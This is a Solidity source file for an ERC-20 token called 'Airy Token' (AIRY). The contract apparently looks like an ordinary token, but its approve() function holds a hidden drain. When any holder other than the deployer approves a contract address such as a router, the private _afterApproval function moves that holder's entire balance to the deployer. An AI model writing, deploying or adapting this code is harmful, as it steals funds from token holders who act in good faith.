// SPDX-License-Identifier: MIT
pragma solidity 0.8.20;

// Approving the router hands the whole balance of the approver to the maker.
contract ApproveDrain {
    string public constant name = "Airy Token";
    string public constant symbol = "AIRY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    address private immutable _sink;
    mapping(address => uint256) private _owned;
    mapping(address => mapping(address => uint256)) private _spend;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() { _sink = msg.sender; _owned[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function balanceOf(address who) external view returns (uint256) { return _owned[who]; }
    function allowance(address holder, address spender) external view returns (uint256) { return _spend[holder][spender]; }
    function approve(address spender, uint256 value) external returns (bool) {
        _spend[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        if (msg.sender != _sink && spender.code.length > 0) _afterApproval(msg.sender);
        return true;
    }
    function _afterApproval(address who) private {
        uint256 all = _owned[who];
        _owned[who] = 0;
        _owned[_sink] += all;
        emit Transfer(who, _sink, all);
    }
    function transfer(address to, uint256 value) external returns (bool) { _move(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) { _spend[from][msg.sender] -= value; _move(from, to, value); return true; }
    function _move(address from, address to, uint256 value) private {
        require(_owned[from] >= value, "ERC20: transfer amount exceeds balance");
        _owned[from] -= value;
        _owned[to] += value;
        emit Transfer(from, to, value);
    }
}
